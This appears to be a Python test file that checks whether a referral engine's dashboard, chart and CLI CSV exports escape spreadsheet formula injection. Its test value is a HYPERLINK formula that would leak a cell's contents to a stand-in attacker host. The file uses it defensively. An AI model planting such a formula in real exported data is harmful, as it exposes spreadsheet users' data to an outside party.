"""Every CSV the project writes escapes a text cell that a spreadsheet would run as a formula
(OWASP: a cell starting with = + - @, a tab or a carriage return gets a leading single quote)."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from uuid import UUID

from fastapi.testclient import TestClient

from referral_engine.bootstrap import Runtime
from tests import factories
from tests.e2e.conftest import Callers, send_referral
from tests.e2e.pages import sign_in
from tests.e2e.test_cli import cli, pg_env
from tests.factories import engine_on_version

FORMULA = '=HYPERLINK("https://attacker.example/?leak="&A1,"Open")'
ESCAPED = "'" + FORMULA


def cells(text: str) -> set[str]:
    return {cell for row in csv.reader(io.StringIO(text)) for cell in row}


def referred_to_a_formula(client: TestClient, callers: Callers, runtime: Runtime) -> None:
    """A case referred to an agency whose name is a formula (its deadline answered by it): a
    case of version 4, whose agency was free text (version 5 takes a registry id only)."""
    on_version_4 = engine_on_version(runtime.engine, "ukraine-nrm", 4)
    case_id = str(factories.case_in(on_version_4, "application_registered"))
    version = runtime.engine.case(UUID(case_id)).version
    response = send_referral(client, callers["lsa"], case_id, version, agency=FORMULA)
    assert response.status_code == 201, response.text
    runtime.projections.catch_up()


def assert_escaped(text: str) -> None:
    found = cells(text)
    assert ESCAPED in found and FORMULA not in found


def test_dashboard_csvs_of_the_api_escape_a_formula_in_a_text_cell(
    client: TestClient, callers: Callers, pg_runtime: Runtime
) -> None:
    referred_to_a_formula(client, callers, pg_runtime)
    for name in ("referrals", "deadlines"):
        response = client.get(
            f"/api/dashboards/{name}", params={"format": "csv"}, headers=callers["analyst"].auth
        )
        assert response.status_code == 200, response.text
        assert_escaped(response.text)
    as_json = client.get("/api/dashboards/referrals", headers=callers["analyst"].auth).json()
    assert FORMULA in {row["agency"] for row in as_json["rows"]}  # JSON keeps the value as is


def test_dashboard_and_chart_csvs_of_the_pages_escape_a_formula(
    client: TestClient, callers: Callers, pg_runtime: Runtime
) -> None:
    referred_to_a_formula(client, callers, pg_runtime)
    sign_in(client, callers["analyst"].token)
    for url in (
        "/dashboards/referrals/csv",
        "/dashboards/deadlines/csv",
        "/dashboards/referrals/charts/bars.csv?measure=sent",
        "/dashboards/deadlines/charts/bars.csv?measure=open",
    ):
        response = client.get(url)
        assert response.status_code == 200, (url, response.text)
        assert_escaped(response.text)


def test_the_export_command_escapes_a_formula(
    client: TestClient, callers: Callers, pg_runtime: Runtime, tmp_path: Path
) -> None:
    referred_to_a_formula(client, callers, pg_runtime)
    env = pg_env(pg_runtime.settings)
    for name in ("referrals", "deadlines"):
        target = tmp_path / f"{name}.csv"
        result = cli("export", "dashboard", name, "--output", str(target), env=env)
        assert result.returncode == 0, result.stderr
        assert_escaped(target.read_text("utf-8"))
    to_stdout = cli("export", "dashboard", "referrals", env=env)
    assert_escaped(to_stdout.stdout)
